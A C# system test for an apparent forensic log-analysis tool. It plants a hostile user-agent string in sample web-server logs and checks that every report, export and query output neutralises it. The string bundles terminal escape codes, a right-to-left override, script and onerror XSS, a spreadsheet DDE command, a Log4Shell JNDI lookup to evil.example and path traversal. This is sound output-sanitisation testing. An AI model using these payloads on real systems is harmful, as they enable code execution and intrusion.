using System.Text;
using System.Text.Json;
using Hindcast.Tests.System.Support;

namespace Hindcast.Tests.System;

/// <summary>
/// The sample's intruder with a hostile name, from the log through the whole program: whatever the intrusion, its actor and
/// their links put in words must come out as text that does nothing, at every exit.
/// </summary>
public sealed class HostileEvidenceTests
{
    // A user agent of a W3C log has no blank; what looks like one here is a plus.
    private const string Hostile = "antSword/v2.1\u001b]0;title\u0007\u001b[31m\u009b31m\u202e<script>alert(1)</script>\"><img+src=x+onerror=alert(1)>'\";=cmd|'/c+calc'!A1,${jndi:ldap://evil.example}\\..\\..\\x";

    private static readonly string[] Exports = ["stix", "attack-flow", "misp", "navigator", "indicators", "sigma", "markdown"];
    private static readonly string[] Timelines = ["csv", "jsonl", "timesketch", "plaso-l2t"];

    [Fact]
    public async Task A_hostile_intruder_is_told_of_in_every_output_and_does_nothing_in_any()
    {
        using TempFolder temp = new();
        string evidence = temp.CopyOf(Repository.Sample, "EX01");
        int changed = 0;
        foreach (string log in Directory.GetFiles(Path.Combine(evidence, "C", "inetpub", "logs"), "*.log", SearchOption.AllDirectories))
        {
            string text = File.ReadAllText(log);
            changed += text.Contains("antSword/v2.1", StringComparison.Ordinal) ? 1 : 0;
            File.WriteAllText(log, text.Replace("antSword/v2.1", Hostile, StringComparison.Ordinal));
        }

        Assert.True(changed > 0);
        HindcastProgram.Result told = await HindcastProgram.Run(["assess", evidence, "--out", temp.At("case")]);
        using JsonDocument assessment = JsonDocument.Parse(File.ReadAllBytes(temp.At("case", "assessment.json")));
        Assert.Contains(
            assessment.RootElement.GetProperty("actors").GetProperty("clusters")[0].GetProperty("features").EnumerateArray(),
            f => f.GetProperty("value").GetString()!.Contains("<script>", StringComparison.Ordinal));
        Assert.Contains("VERDICT  Compromised", told.Output, StringComparison.Ordinal);

        List<(string Name, string Text)> outputs = [("assess", told.Output), ("report", File.ReadAllText(temp.At("case", "report.html"))), ("timeline.csv", File.ReadAllText(temp.At("case", "timeline.csv")))];
        foreach (string format in Exports)
        {
            outputs.Add((format, await Output("export", temp.At("case"), "--format", format)));
        }

        foreach (string format in Timelines)
        {
            outputs.Add((format, await Output("timeline", temp.At("case"), "--format", format)));
        }

        foreach (string format in new[] { "table", "csv", "jsonl" })
        {
            foreach (string table in new[] { "actor_features", "entities", "requests", "observations", "timeline" })
            {
                outputs.Add(($"query {table} {format}", await Output("query", temp.At("case"), $"SELECT * FROM {table}", "--format", format)));
            }
        }

        outputs.Add(("explain", await Output("explain", "A1", "--case", temp.At("case"))));
        outputs.Add(("notify", await Output("notify", temp.At("case"))));
        Assert.All(outputs, output =>
        {
            Assert.DoesNotContain(output.Text, c => (char.IsControl(c) && c is not ('\n' or '\r')) || (c is '\u202e'));
            Assert.True(output.Name is "csv" or "plaso-l2t" or "timesketch" or "timeline.csv" || !output.Text.Contains("<script", StringComparison.OrdinalIgnoreCase) || IsPlainText(output.Name), output.Name);
        });
        Assert.DoesNotContain("<img", outputs.First(o => o.Name == "report").Text, StringComparison.OrdinalIgnoreCase);
    }

    /// <summary>Terminals and tables of text show markup as text.</summary>
    private static bool IsPlainText(string name) => name is "assess" or "explain" or "notify" or "indicators" or "sigma" || (name.StartsWith("query", StringComparison.Ordinal) && !name.EndsWith("jsonl", StringComparison.Ordinal));

    private static async Task<string> Output(params string[] arguments)
    {
        HindcastProgram.Result run = await HindcastProgram.Run(arguments);
        Assert.True(run.ExitCode is 0 or 3, $"{string.Join(' ', arguments)}: {run.Error}");
        return Encoding.UTF8.GetString(run.OutputBytes);
    }
}
